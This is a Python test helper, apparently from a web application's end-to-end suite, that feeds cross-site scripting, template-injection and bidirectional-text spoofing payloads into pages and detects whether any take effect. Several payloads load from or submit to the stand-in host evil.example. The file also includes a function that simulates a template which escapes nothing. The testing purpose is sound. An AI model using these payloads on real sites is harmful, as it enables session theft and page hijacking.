"""Text that would be more than text on a careless page, and the trap that notices it.

Each vector that makes an element marks it `data-trap`, each script calls `trap`, each template's
arithmetic gives a number that is typed nowhere, and each order of letters ends where it began.
"""

import re
import unicodedata
from html import unescape

from markupsafe import escape
from playwright.sync_api import Page

from tests.e2e.visitor import Visitor

VECTORS = (
    "<script data-trap>trap('script')</script>",
    "<img data-trap src=x onerror=trap('img')>",
    "\"><svg data-trap/onload=trap('svg')>",
    "'><svg data-trap><animate onbegin=trap(1) dur=1s>",
    "<svg data-trap><script>trap&#40;1)</script></svg>",
    '" autofocus data-trap onfocus="trap(1)',
    "' autofocus data-trap onfocus='trap(1)",
    "</title><script data-trap>trap('title')</script>",
    "</script><script data-trap>trap('closed')</script>",
    "--><img data-trap src=x onerror=trap('comment')>",
    "<details data-trap open ontoggle=trap('toggle')>x",
    "<iframe data-trap srcdoc='<script>top.trap(1)</script>'>",
    "<embed data-trap src=//evil.example/x.swf>",
    "<base data-trap href=//evil.example/>",
    "<link data-trap rel=stylesheet href=//evil.example>",
    "<style data-trap>@import'//evil.example/x';*{opacity:0}",
    "<meta data-trap http-equiv=refresh content=0;//evil.example>",
    "<form data-trap action=//evil.example><button>go",
    "<a data-trap href='javascript:trap(1)' autofocus>x</a>",
    "\"' style='background:url(//evil.example)' data-trap x=",
    "<b data-trap>bold</b><!--",
    "{{7*191}}{{ 7*191 }}${7*191}#{7*191}<%= 7*191 %>",
    "{% for x in 'ab' %}{{7*191}}{% endfor %}%(name)s{0}",
    "javascript:/*--></title></style></script><b data-trap>x",
    "&lt;script data-trap&gt;trap(1)&#x3c;/script&#62;",
    "\uff1cscript data-trap\uff1etrap(1)\uff1c/script\uff1e",
    "Ada\u202egnp.exe\u2066\u2067(1)part\u200f",
    'jaVasCript:/*`/*\'/*"/**/trap(1)//</stYle>"<sVg data-trap>',
)
"""None is longer than the field that holds least."""
MAILBOX = "ada'{{7*191}}`&$lt#@example.com"
"""As hostile as an address can be."""

_SPRUNG = "sprung: "
TRAP = f"window.trap = what => console.error('{_SPRUNG}' + what)"
_TURNED = [text for text in VECTORS if "\u202e" in text]
# What turns the order of letters around stands last in what it can turn around.
_LOOK = """turned => {
    const found = [];
    for (const one of document.querySelectorAll('[data-trap]')) found.push(one.outerHTML);
    if (document.body.innerText.includes('1337')) found.push('a template was worked out');
    const isOpen = one => getComputedStyle(one).display.startsWith('inline')
        && !getComputedStyle(one).unicodeBidi.startsWith('isolate');
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
        if (!walk.currentNode.data.includes('\u202e')) continue;
        let box = walk.currentNode.parentElement;
        while (isOpen(box)) box = box.parentElement;
        const text = box.textContent.trim();
        if (!turned.some(one => text.endsWith(one))) found.push(box.outerHTML);
    }
    return found;
}"""


def made_of(page: Page) -> list[str]:
    """What hostile text has become on this page: elements, sums, a turned order of letters."""
    found: list[str] = page.evaluate(_LOOK, _TURNED)
    return found


def look(visitor: Visitor, text: str) -> None:
    """Note for the end of the test what this text has done to the page in front."""
    visitor.faults += [f"{visitor.path} with {text!r}: {one}" for one in made_of(visitor.page)]


def careless(body: str, text: str, *, kept: str) -> str:
    """The page as a template would make it that escapes nothing and isolates nothing, reads
    entities and wide letters, and works out what it is given.

    `kept` is what is left of it as a name: there the page shows it as it came.
    """
    given = unescape(unicodedata.normalize("NFKC", text))
    given = re.sub(r"[{$#<%]+=? ?7\*191 ?[}%>]+", "1337", given)
    quote = "'" if text.startswith("'") else '"'
    bare = body.replace(f'"{escape(kept)}"', f"{quote}{given}{quote}")
    return re.sub(r"</?bdi[^>]*>", "", bare.replace(str(escape(kept)), given))
